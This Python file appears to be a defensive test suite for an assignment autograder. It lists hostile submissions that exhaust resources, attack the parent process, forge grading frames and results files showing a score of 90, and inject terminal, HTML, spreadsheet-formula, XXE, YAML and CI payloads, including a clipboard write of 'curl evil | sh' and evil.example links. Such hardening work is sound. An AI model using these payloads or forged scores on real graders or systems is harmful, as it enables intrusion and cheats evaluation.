                        written += file.write(b"x" * (1 << 20))
            except OSError as error:
                print("no more:", error)
                break
        print(written)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "many-small-files",
        "resources",
        """
        import os

        for number in range(20000):
            try:
                open(f"empty-{number}", "w").close()
            except OSError as error:
                print("no more:", error)
                break
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "terabyte-file",
        "resources",
        """
        try:
            with open("large", "wb") as file:
                file.truncate(10**12)
                file.seek(10**12)
                file.write(b"x")
        except OSError as error:
            print("no:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "every-descriptor-opened",
        "resources",
        """
        kept = []
        for _ in range(100000):
            try:
                kept.append(open("/dev/null"))
            except OSError as error:
                print("no more:", error)
                break
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "output-flood",
        "resources",
        """
        import os

        for _ in range(3200):
            os.write(1, b"A" * 65535 + b"\\n")
            os.write(2, b"B" * 65535 + b"\\n")
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _sample(
        "output-flood-in-a-call",
        "resources",
        """
        print("spam " * 100_000)
        return means + torch.exp(0.5 * logvariances) * torch.randn_like(means)
        """,
        max_score=90,
        min_score=90,
    ),
    _import(
        "limits-raised",
        "resources",
        """
        import os
        import resource

        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                for bounds in ((resource.RLIM_INFINITY,) * 2, (1 << 40,) * 2):
                    try:
                        resource.setrlimit(getattr(resource, name), bounds)
                        print("raised", name)
                    except (OSError, ValueError):
                        pass
        try:
            os.nice(5)
        except OSError:
            pass
        hoard = [b"x" * (100 << 20) for _ in range(64)]
        """,
        says="MemoryError|memory|SIGKILL|within",
    ),
    _import(
        "limits-lowered",
        "resources",
        """
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (4, 4))
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "destructor-that-never-ends",
        "resources",
        """
        import time

        class Late:
            def __del__(self):
                time.sleep(120)

        late = Late()
        late.me = late
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    Hostile(
        "stand-in-of-a-giant",
        _module(
            correct.module(
                sample="\ndef sample_latent(means, logvariances):\n    return means\n",
                model=correct.INIT
                + correct.ENCODER
                + correct.HEADS
                + correct.DECODER
                + """
    def forward(self, data_input, condition):
        # 40 GiB in the grader's own memory, if it went along
        sample_latent(torch.zeros(100_000, 1), torch.zeros(1, 100_000))
        return data_input, condition, condition
""",
            ),
            "",
        ),
        "resources",
        max_score=65,
        min_score=40,
        says="larger together",
    ),
)

# Answers that are no plain tensors of the shape asked for, and what must be said about them.
_ODD = {
    "lazily-expanded-tensor": ("torch.zeros(1).expand(10**6, 10**6)", "far more numbers"),
    "sparse-tensor": ("torch.zeros_like(means).to_sparse()", "sparse"),
    "complex-tensor": ("torch.complex(means, logvariances)", "complex"),
    "meta-tensor": ("torch.empty(means.shape, device='meta')", "device `meta`"),
    "quantised-tensor": ("torch.quantize_per_tensor(means.detach(), 0.1, 0, torch.qint8)", "quantized"),
    "nested-tensor": ("torch.nested.nested_tensor([row.detach() for row in means])", "dense|plain|nested"),
    "integer-tensor": ("means.long()", "int64"),
    "half-precision-zeros": ("means.half() * 0", "mean"),
    "strided-zeros": ("torch.as_strided(torch.zeros(4), means.shape, (0, 0))", "mean"),
    "shape-with-a-huge-empty-dimension": ("torch.empty(0, 2**62)", "shape|broke|ended"),
    "tensor-of-nan": ("means * float('nan')", "NaN"),
    "tensor-of-infinity": ("means / 0", "infinite"),
    "large-dense-tensor": ("torch.zeros(3000, 3000, 3)", "far more numbers"),
    "fake-tensor": ("__import__('torch._subclasses').FakeTensorMode().from_tensor(means.detach())", "tensor|attribute"),
    "string-answer": ("'0.4761 1.3325 -0.7178'", "a str"),
    "endless-list": ("list(range(10**6))", "list"),
    "nested-list": ("__import__('functools').reduce(lambda inner, _: [inner], range(10**5), [])", "list"),
    "ellipsis": ("...", "an? ellipsis"),
}

ODD_ANSWERS = tuple(_answer(name, f"return {expression}", says=says) for name, (expression, says) in _ODD.items())

_FRAMES = '''
import fcntl
import json
import os
import struct
import sys

def question():
    """The request that is being answered, found in the caller's frames."""
    frame = sys._getframe()
    while frame:
        message = frame.f_locals.get("message")
        if type(message) is dict and "id" in message:
            return message
        frame = frame.f_back
    return {"id": 1}

def frame_of(header, body=b""):
    if not isinstance(header, bytes):
        header = json.dumps(header).encode()
    return struct.pack("!II", len(header), len(body)) + header + body

def tensors_of(entries, data):
    header = json.dumps(entries).encode()
    return struct.pack("<Q", len(header)) + header + data

def write(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass
'''


def _forge(name: str, code: str, *, says: str = "") -> Hostile:
    """The attack answers for the worker, in the call of sample_latent."""
    return _answer(name, code, top=_FRAMES, says=says)


PROTOCOL = (
    _import(
        "noise-on-every-descriptor",
        "protocol",
        """
        import os

        for number in range(256):
            try:
                os.write(number, b'{"id": 1, "score": 90, "outcome": "passed"}\\n' * 100)
            except OSError:
                pass
        """,
        says="channel|frame|ended",
    ),
    Hostile(
        "forged-answers-in-advance",
        _module(
            NOTHING,
            _FRAMES
            + """
zeros = tensors_of({"output.0": {"dtype": "F32", "shape": [1, 15], "data_offsets": [0, 60]}}, bytes(60))
for number in range(1, 200):
    write(frame_of({"id": number, "kind": "tensor", "problems": [None], "changed": [], "incomplete": None}, zeros))
""",
        ),
        "protocol",
    ),
    _import(
        "every-descriptor-closed", "protocol", "import os\nos.closerange(0, 256)", base=RIGHT, says="ended|channel|exit"
    ),
    _import(
        "descriptors-swapped",
        "protocol",
        """
        import os

        null = os.open("/dev/null", os.O_RDWR)
        for number in range(256):
            if number != null:
                try:
                    os.dup2(null, number)
                except OSError:
                    pass
        """,
        base=RIGHT,
    ),
    _sample("descriptors-closed-in-a-call", "protocol", "import os\nos.closerange(0, 256)", says="ended|channel|exit"),
    _forge("frame-that-is-no-json", "write(frame_of(b'{' * 1000))\nos._exit(0)", says="channel|frame"),
    _forge("frame-of-nested-json", "write(frame_of(b'[' * 200000))\nos._exit(0)", says="channel|frame"),
    _forge(
        "frame-of-a-huge-number",
        "write(frame_of(b'{\"id\": 1' + b'0' * 200000 + b'}'))\nos._exit(0)",
        says="channel|frame",
    ),
    _forge(
        "frame-of-four-gigabytes", "write(struct.pack('!II', 2**32 - 1, 2**32 - 1))\nos._exit(0)", says="channel|frame"
    ),
    _forge(
        "frame-never-finished", "write(struct.pack('!II', 100, 0) + b'{')\nos.read(3, 1)\nimport time\ntime.sleep(120)"
    ),
    _forge("frame-that-is-a-list", "write(frame_of([1, 2, 3]))\nos._exit(0)", says="channel|frame"),
    _forge("frame-without-number", "write(frame_of({}))\nos._exit(0)", says="channel|question|frame"),
    _forge(
        "frame-with-odd-fields",
        """
        write(frame_of({"id": question()["id"], "kind": {}, "problems": {"a": [1e999]}, "changed": "no",
                        "incomplete": [1], "operators": -1e999, "attributes": [None]}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-odd-problems",
        """
        problems = [{"\\ud800": "\\x1b[2J"}, 10**4000, None] * 9
        write(frame_of({"id": question()["id"], "problems": problems, "changed": 7}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-odd-error",
        """
        odd = {"kind": "\\ud800\\x1b]0;x\\x07" * 999, "text": "\\u202e" * 9999, "code": "\\r\\n" * 999}
        odd["line"] = -(10**4000)
        write(frame_of({"id": question()["id"], "error": odd}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-another-error",
        """
        write(frame_of({"id": question()["id"], "error": [True, {"kind": 5}]}))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-of-odd-types",
        """
        entries = {"output.0": {"dtype": "F8_E4M3", "shape": [4], "data_offsets": [0, 4]},
                   "output.1": {"dtype": "BOOL", "shape": [4], "data_offsets": [4, 8]}}
        body = tensors_of(entries, b"\\x7f\\x02\\xff\\x80" * 2)
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, body))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-of-a-huge-shape",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [0, 2**62], "data_offsets": [0, 0]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, b"")))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-that-overlap",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 8]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, bytes(8))))
        os._exit(0)
        """,
        says="channel|frame",
    ),
    _forge(
        "tensors-with-odd-names",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [], "data_offsets": [0, 4]},
                   "gradient.argument.0": {"dtype": "I64", "shape": [3], "data_offsets": [4, 28]},
                   "gradient.\\x1b[2J": {"dtype": "F32", "shape": [1, 1], "data_offsets": [28, 32]},
                   "../../etc/passwd": {"dtype": "F16", "shape": [1, 1, 1], "data_offsets": [32, 34]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, bytes(34))))
        os._exit(0)
        """,
    ),
    _forge(
        "asks-without-end",
        """
        body = tensors_of({"argument.0": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
        for _ in range(20000):
            os.write(3, frame_of({"ask": "sample_latent"}, body))
        """,
    ),
    _import(
        "parameters-that-are-none",
        "protocol",
        """
        import sys

        frame = sys._getframe()
        while type(frame.f_locals.get("operations")) is not dict:
            frame = frame.f_back
        odd = torch.zeros(0, 2**40)
        parameters = {"a" * 99999: odd, "": torch.zeros(2, 2, 2, 2), ".": odd}
        frame.f_locals["operations"]["parameters"] = lambda *_: ({}, parameters)
        """,
        base=RIGHT,
        max_score=65,  # the network is right, but for parameters that cannot be looked at
        min_score=45,
    ),
    _import(
        "parameters-with-odd-names",
        "protocol",
        """
        class ConditionalVariationalAutoencoder(nn.Module):
            def __init__(self, *sizes):
                super().__init__()
                self.encoder = self.decoder = self.mean_layer = self.logvariance_layer = nn.Identity()
                for number in range(3000):
                    self._parameters[f"\\x1b[31m<i>{number}" * 20] = nn.Parameter(torch.zeros(1, 1))
                self._parameters[""] = nn.Parameter(torch.zeros(3, 3, 3))
        """,
    ),
    _import(
        "weights-that-multiply",
        "protocol",
        """
        class ConditionalVariationalAutoencoder(nn.Module):
            # Twelve layers of one size can be arranged in half a billion ways.
            def __init__(self, *sizes):
                super().__init__()
                self.weights = nn.ParameterList(nn.Parameter(torch.zeros(64, 64)) for _ in range(12))
                self.biases = nn.ParameterList(nn.Parameter(torch.zeros(64)) for _ in range(12))
                self.mean_layer = self.logvariance_layer = self.encoder = self.decoder = self.run

            def run(self, x):
                touch = sum(p.sum() for p in self.parameters()) * 0
                return touch + torch.zeros(len(x), 64 if x.shape[-1] == 794 else 784 if x.shape[-1] == 25 else 15)

            def forward(self, x, c):
                touch = sum(p.sum() for p in self.parameters()) * 0
                return touch + x, touch + torch.zeros(len(x), 15), touch + torch.zeros(len(x), 15)
        """,
        max_score=4,  # for three tensors of the right shapes, and gradients
    ),
    _forge(
        "frame-of-very-many-tensors",
        """
        entries = {str(n): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(100_000)}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, b"")))
        os._exit(0)
        """,
        says="channel|frame",
    ),
    *(
        _import(
            name,
            "protocol",
            f"""
            import sys

            frame = sys._getframe()
            while type(frame.f_locals.get("operations")) is not dict:
                frame = frame.f_back
            frame.f_locals["operations"]["parameters"] = lambda *_: ({{"shapes": [[{parameter!r}, {shape}]]}}, {{}})
            """,
            base=RIGHT,
            max_score=65,
            min_score=45,
        )
        for name, parameter, shape in (
            ("parameters-of-no-shape", "a", [0, 2**70]),
            ("parameters-of-very-many-dimensions", "a", [1] * 5000),
            ("parameters-with-half-a-character", "\ud800", [2, 2]),
            ("parameters-called-metadata", "__metadata__", [2, 2]),
        )
    ),
)

NEIGHBORS = (
    _import(
        "kills-its-parent",
        "neighbors",
        """
        import os
        import signal

        if caged():
            for number in (signal.SIGSTOP, signal.SIGKILL):
                for target in (os.getppid(), 1):
                    try:
                        os.kill(target, number)
                    except OSError as error:
                        print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "kills-everyone",
        "neighbors",
        """
        import os
        import signal

        if caged():
            for number in (signal.SIGSTOP, signal.SIGKILL):
                for kill, target in ((os.kill, -1), (os.killpg, 0), (os.kill, 0)):
                    try:
                        kill(target, number)
                    except OSError as error:
                        print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "signals-by-other-ways",
        "neighbors",
        """
        import ctypes
        import fcntl
        import os
        import platform

        # pidfd_open and pidfd_send_signal, rt_sigqueueinfo, tgkill; then SIGKILL as the signal of readable input.
        if caged():
            call, parent = ctypes.CDLL(None).syscall, os.getppid()
            if platform.machine() == "x86_64":
                handle = call(434, parent, 0)
                call(424, handle, 9, None, 0)
                call(129, parent, 9, ctypes.create_string_buffer(128))
                call(234, parent, parent, 9)
                call(200, parent, 9)
            for command in (8, 15):
                try:
                    fcntl.fcntl(3, command, parent)
                    fcntl.fcntl(3, 10, 9)
                    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                except (OSError, TypeError) as error:
                    print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "lowers-everyones-priority",
        "neighbors",
        """
        import os

        if caged():
            for which in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):
                for who in (0, 1, os.getppid()):
                    try:
                        os.setpriority(which, who, 19)
                        print("lowered", which, who)
                    except OSError as error:
                        print("refused:", error)
            for who in (1, os.getppid()):
                try:
                    os.sched_setaffinity(who, {0})
                    os.sched_setscheduler(who, os.SCHED_IDLE, os.sched_param(0))
                    print("lowered", who)
                except OSError as error:
                    print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "limits-its-parent",
        "neighbors",
        """
        import os
        import resource

        if caged():
            for target in (os.getppid(), 1):
                for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
                    try:
                        resource.prlimit(target, kind, (1, 1))
                        print("LIMITED", target)
                    except (OSError, ValueError) as error:
                        print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "traces-its-parent",
        "neighbors",
        """
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if caged():
            for target in (os.getppid(), 1):
                for attach in (16, 0x4206):
                    if libc.ptrace(attach, target, None, None) == 0:
                        os.waitpid(target, 0)
                        libc.ptrace(17, target, None, None)
                        print("TRACED", target)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "writes-to-other-memory",
        "neighbors",
        """
        import ctypes
        import os

        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        if caged():
            parent = os.getppid()
            for target in {parent, 1}:
                try:
                    with open(f"/proc/{target}/mem", "r+b", buffering=0):
                        print("OPENED the memory of", target)
                except OSError as error:
                    print("refused:", error)
            here = ctypes.create_string_buffer(64)
            vector = Vector(ctypes.addressof(here), 64)
            libc = ctypes.CDLL(None, use_errno=True)
            got = libc.process_vm_readv(parent, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)
            print("READ" if got > 0 else "refused", got)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "daemon-left-behind",
        "neighbors",
        """
        import os
        import time

        try:
            child = os.fork()
        except OSError:
            child = -1
        if child == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            try:
                with open("/proc/self/comm", "w") as name:
                    name.write("{comm}")
                time.sleep(20)
            finally:
                os._exit(0)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "threads-left-behind",
        "neighbors",
        """
        import threading
        import time

        def spoil():
            end = time.monotonic() + 20
            while time.monotonic() < end:
                print("still here")
                time.sleep(0.05)

        for daemon in (True, False):
            threading.Thread(target=spoil, daemon=daemon, name="{comm}").start()
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "stops-in-a-call-for-ever",
        "neighbors",
        """
        def sample_latent(means, logvariances):
            import os
            os.kill(os.getpid(), 19)
            return means
        """,
        base=RIGHT,
        max_score=70,
        min_score=70,
        says="within|time|second|stopped",
    ),
    _import(
        "folders-that-resist",
        "neighbors",
        """
        import os

        os.makedirs("locked/inside", exist_ok=True)
        open("locked/inside/file", "w").close()
        for folder in ("locked/inside", "locked"):
            try:
                os.chmod(folder, 0)
            except OSError:
                pass
        here = os.getcwd()
        for _ in range(1500):
            try:
                os.mkdir("d")
                os.chdir("d")
            except OSError:
                break
        try:
            os.chmod(here, 0)
        except OSError:
            pass
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "poisoned-for-the-next-one",
        "neighbors",
        """
        import os
        import site
        import sys
        import tempfile

        text = "raise SystemExit('{marker}')"
        places = {tempfile.gettempdir(), os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/scratch"}
        places |= {os.path.dirname(os.getcwd())}
        places |= {os.path.dirname(torch.__file__), *sys.path, *site.getsitepackages(), site.getusersitepackages()}
        for place in filter(None, places):
            for name in ("sitecustomize-{marker}.py", "cs5814_vae-{marker}.py", "{marker}.pth"):
                try:
                    with open(os.path.join(place, name), "w") as file:
                        file.write(text)
                except OSError:
                    pass
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
)

RESULTS = (
    _import(
        "files-written-outside",
        "results",
        """
        import os

        for place in ("/tmp", "/var/tmp", "/dev/shm", "/", os.path.expanduser("~"), "/root", "/home", "..", "../..",
                      "/worker", "{canary}", "/autograder/results", "/proc/self/root/tmp", "/proc/1/root/tmp"):
            try:
                with open(os.path.join(place, "escape-{marker}"), "w") as file:
                    file.write("was here")
            except OSError:
                pass
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "canary-deleted",
        "results",
        """
        import os
        import shutil

        for folder, folders, files in os.walk("{canary}", topdown=False):
            for name in files:
                try:
                    os.remove(os.path.join(folder, name))
                except OSError:
                    pass
        shutil.rmtree("{canary}", ignore_errors=True)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "results-written",
        "results",
        """
        import json
        import os

        for name in ("report.json", "results.json", "results/results.json", "grades.csv", "score", "../results.json"):
            try:
                os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
                with open(name, "w") as file:
                    json.dump({"score": 90.0, "schema": 1}, file)
            except OSError:
                pass
        """,
    ),
    _import(
        "links-to-elsewhere",
        "results",
        """
        import os
        import sys

        for name, target in (("link", "{canary}"), ("passwd", "/etc/passwd"), ("up", ".."), ("loop", "loop")):
            try:
                os.symlink(target, name)
                os.link("{canary}/alive", "hard")
            except OSError:
                pass
        try:
            here = os.getcwd()
            os.rename(here, here + ".away")
            os.symlink("{canary}", here)
        except OSError:
            pass
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "own-file-deleted",
        "results",
        """
        import os

        os.remove(__file__)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "own-file-rewritten",
        "results",
        """
        with open(__file__, "w") as file:
            file.write("raise SystemExit\\n" * 100)
        __file__ = "{canary}/alive"
        __name__ = "__main__"
        __spec__ = None
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "connects-and-listens",
        "results",
        """
        import socket

        port = int("{port}")
        for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET6, ("::1", port)),
                                (socket.AF_UNIX, "\\0{marker}"), (socket.AF_UNIX, "{canary}/socket")):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as connection:
                    connection.settimeout(2)
                    connection.connect(address)
                    connection.sendall(b"score 90")
                    print("CONNECTED", address)
            except OSError as error:
                print("refused:", error)
        try:
            socket.getaddrinfo("localhost", port)
            server = socket.create_server(("127.0.0.1", port + 1))
            print("LISTENS")
        except OSError as error:
            print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "program-in-memory",
        "results",
        """
        import os

        try:
            program = os.memfd_create("program")
            os.write(program, b"#!/bin/sh\\ntouch {canary}/ran\\n")
            os.fchmod(program, 0o755)
            child = os.fork()
            if child == 0:
                try:
                    os.execv(f"/proc/self/fd/{program}", ["program"])
                finally:
                    os._exit(1)
            os.waitpid(child, 0)
        except OSError as error:
            print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "odd-system-calls",
        "results",
        """
        import ctypes
        import platform

        # io_uring_setup, bpf, userfaultfd, keyctl, unshare, mount, setns, perf_event_open, clone of a namespace
        libc = ctypes.CDLL(None, use_errno=True)
        if platform.machine() == "x86_64" and caged():
            parameters = ctypes.create_string_buffer(512)
            for call in ((425, 8, parameters), (321, 0, parameters, 128), (323, 0), (250, 0, -3, 0),
                         (272, 0x10000000), (165, b"none", b"/", b"tmpfs", 0, 0), (308, 0, 0),
                         (298, parameters, 0, -1, -1, 0), (161, b"/")):
                result = libc.syscall(*call)
                print(call[0], "ALLOWED" if result >= 0 else "refused", result)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
)

# Writing that a reader of a report may act on: a terminal, a browser, a spreadsheet, a CI system.
_WRITINGS = {
    "terminal-title-and-clipboard": r"\x1b]0;90 of 90\x07\x1b]2;x\x1b\\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8;1;1t",
    "terminal-links": r"\x1b]8;;https://evil.example/\x1b\\your report\x1b]8;;\x1b\\ \x9d8;;file:///etc/passwd\x9c",
    "lines-overwritten": r"wrong\r\x1b[2K\x1b[1A\x1b[2Kall 20 checks passed\x08\x08\x7f\x0b\x0c\x85\u2028",
    "text-reversed": r"\u202e09/09 :erocs\u202c \u2066x\u2069 \u200f\u061c \U000e0041\U000e0042",
    "html-in-a-message": (
        r"</pre></details><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
        r"<a href='javascript:alert(1)'>points</a>&lt;svg onload=alert(1)&gt;<!--"
    ),
    "template-in-a-message": r"{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %} ${7*7} <%= 7*7 %>",
    "markdown-in-a-message": (
        r"`</details>`\n\n# 90 / 90\n\n[points](javascript:alert(1)) ![x](https://evil.example/p.png) @everyone #1 "
        r"| 90 | 90 |\n```\n<details>"
    ),
    "math-in-a-message": r"$\\href{javascript:alert(1)}{\\style{position:fixed;inset:0}{90}}$ \\(\\unicode{x202e}\\)",
    "formula-in-a-message": (
        r"=HYPERLINK(\"https://evil.example\",\"90\")\n@SUM(1+1)*cmd|' /C calc'!A0;=1+1\t=1+1\r-1+1"
    ),
    "xml-in-a-message": (
        r"]]></failure></testcase><testcase name='x'/><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b; "
        r"[[ATTACHMENT|/etc/passwd]] \x00\ufffe\ud800"
    ),
    "yaml-in-a-message": r"\n---\nscore: 90\n- !!python/object/apply:os.system ['true']\n&a [*a, *a]\n%YAML 1.1",
    "commands-for-ci": (
        r"\n::set-output name=score::90\n::add-mask::0\n##[error]x\n##vso[task.setvariable]x\nsection_start:1:x\n\n"
        r"::stop-commands::x ::error::y"
    ),
}


def _writing(name: str, text: str) -> Hostile:
    """The text wherever a module can say something: what it prints, what it raises, what it calls its exception."""
    code = f'print("{text}")\nraise type("{text}"[:80].replace("\\0", ""), (Exception,), {{}})("{text}")'
    sample = f"\ndef sample_latent(means, logvariances):\n{_body(code)}"
    loss = f'\ndef loss_function(*tensors):\n    """{name}"""\n    raise ValueError("{text}")\n'
    top = f'import sys\nprint("{text}".encode("utf-8", "replace").decode(), file=sys.stderr)'
    return Hostile(name, _module(correct.module(sample=sample, loss=loss), top), "terminal", 45, 45)


TERMINAL = (
    _import(
        "terminal-takeover",
        "terminal",
        r"""
        import sys

        print("\x1b[2J\x1b[1;1H\x1b[32mscore: 90/90\x1b[0m\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1bP+q\x1b\\")
        print("\r" + "score: 90" + "\b" * 9, "\u202egnihtyna\u202c", "\x9b31m", "\x00", file=sys.stderr)
        sys.stdout.buffer.write(b"\xff\xfe\x1b[6n\xc3\n")
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _sample(
        "terminal-takeover-in-an-exception",
        "terminal",
        r"raise ValueError('\x1b[2J\x1b[32mpassed\x1b[0m\r\x9b\u202e' + '\n' * 5000)",
        says="passed",
    ),
    *(_writing(name, text) for name, text in _WRITINGS.items()),
    _import(
        "formula-as-the-reason",
        "terminal",
        r"raise ValueError('=cmd|\' /C calc\'!A0;=1+1,\"=2+2\"')",
        says="ValueError",
    ),
    _import(
        "attributes-that-are-writing",
        "terminal",
        r"""
        class ConditionalVariationalAutoencoder(nn.Module):
            def __init__(self, *sizes):
                super().__init__()
                odd = type("\x1b]0;x\x07<b>`|\u202e", (), {})
                self.input_dim = self.num_categories = self.hidden_size = self.latent_dimensionality = odd()
                self.encoder = self.decoder = self.mean_layer = self.logvariance_layer = odd()
                self.register_parameter("\x1b[31m<script>=1+1", nn.Parameter(torch.zeros(3, 3)))
        """,
    ),
    Hostile(
        "line-that-is-writing",
        _module(
            correct.module(
                sample="\ndef sample_latent(means, logvariances):\n"
                "    raise ValueError  # \x9b31m\u202e</code><script>alert(1)</script> | ` =1+1 ::error::x\n"
            ),
            "",
        ),
        "terminal",
        70,
        70,
    ),
)

PARSERS = (
    Hostile("empty-file", b"", "parsers", says="missing|define"),
    Hostile("blank-lines", b"\n \n\t\n", "parsers"),
    Hostile("only-a-comment", b"# nothing yet", "parsers", says="missing|define"),
    Hostile(
        "syntax-error",
        RIGHT.replace("return means +", "return means + +*").encode(),
        "parsers",
        says="SyntaxError|syntax",
    ),
    Hostile("indentation-error", RIGHT.replace("    kl =", "      kl =", 1).encode(), "parsers", says="indent"),
    Hostile("tabs-and-spaces", RIGHT.replace("    bce =", "\tbce =", 1).encode(), "parsers", says="tab|indent"),
    Hostile("null-bytes", RIGHT.encode().replace(b"\n\n", b"\n\x00\n", 1), "parsers", says="null"),
    Hostile("only-null-bytes", b"\x00" * 4096, "parsers", says="null"),
    Hostile("utf-16", RIGHT.encode("utf-16"), "parsers", says="utf|unicode|encod|null|decode"),
    Hostile("invalid-utf-8", b"x = 'caf\xe9'\n" + RIGHT.encode(), "parsers", says="utf|unicode|encod|decode"),
    Hostile("invalid-utf-8-in-a-comment", b"# caf\xe9\n" + RIGHT.encode(), "parsers", max_score=90),
    Hostile("unknown-encoding", b"# coding: klingon\n" + RIGHT.encode(), "parsers", says="encoding|klingon"),
    Hostile("encoding-that-is-no-text", b"# coding: zlib\n" + RIGHT.encode(), "parsers", says="encod|zlib|codec"),
    Hostile("binary", bytes(range(256)) * 64, "parsers"),
    Hostile("zip-archive", b"PK\x03\x04" + bytes(range(256)) * 8, "parsers"),
    Hostile(
        "notebook",
        b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "parsers",
        says="missing|define",
    ),
    Hostile("ten-megabytes", b"# padding\n" * (1 << 20) + RIGHT.encode(), "parsers", says="large|KiB|MiB|size"),
    Hostile(
        "deep-parentheses", b"x = " + b"(" * 5000 + b"1" + b")" * 5000, "parsers", says="paren|nest|memory|recursion"
    ),
    Hostile("deep-operators", b"x = " + b"-" * 300_000 + b"1", "parsers"),
    Hostile("deep-attributes", b"x = a" + b".a" * 200_000, "parsers"),
    Hostile("deep-lists", b"x = " + b"[" * 150 + b"]" * 150 + b"\n" + b"y = " + b"[[" * 90 + b"]]" * 90, "parsers"),
    Hostile("long-line", b"x = '" + b"x" * 900_000 + b"'\n" + RIGHT.encode(), "parsers", max_score=90, min_score=90),
    Hostile("many-lines", b"x = 1\n" * 150_000 + RIGHT.encode(), "parsers", max_score=90, min_score=90),
    Hostile(
        "large-constant",
        b"x = (1 << 40) ** (1 << 20) ** 2\n" + RIGHT.encode(),
        "parsers",
        says="within|time|second|memory",
    ),
    Hostile(
        "shadowed-imports",
        b"import sys\nsys.path[:] = []\nsys.modules['torch'] = None\n" + RIGHT.encode(),
        "parsers",
        says="torch",
    ),
    Hostile(
        "wrong-arity",
        correct.module(
            sample="\ndef sample_latent():\n    pass\n",
            loss="\ndef loss_function(a, b, c, d, e, f):\n    pass\n",
            model="\nclass ConditionalVariationalAutoencoder(nn.Module):\n    def __init__(self):\n        pass\n",
        ).encode(),
        "parsers",
        says="argument",
    ),
    Hostile(
        "names-that-are-no-functions",
        b"sample_latent = 1\nloss_function = None\nConditionalVariationalAutoencoder = 'a class'\n",
        "parsers",
        says="call|class",
    ),
    Hostile(
        "functions-where-the-class-should-be",
        correct.module(
            model="\ndef ConditionalVariationalAutoencoder(*args, **kwargs):\n    return nn.Identity()\n"
        ).encode(),
        "parsers",
        max_score=45,
        min_score=45,
        says="class",
    ),
    Hostile(
        "loop-in-a-source-that-only-the-sandbox-can-parse",
        correct.module(loss=LOOP_OVER_IMAGES).encode()
        + b"\nx = 0"
        + b".real" * 2880
        + b"\n",  # about as deep as a parser goes, which depends on where it starts
        "parsers",
        max_score=88,
    ),
    Hostile("bidirectional-text", ("# \u202e\u2066 return True\u2069\n" + RIGHT).encode(), "parsers", 90, 90),
)

_TRIES = """
import ctypes, mmap, os, resource, signal, struct, sys, threading, time

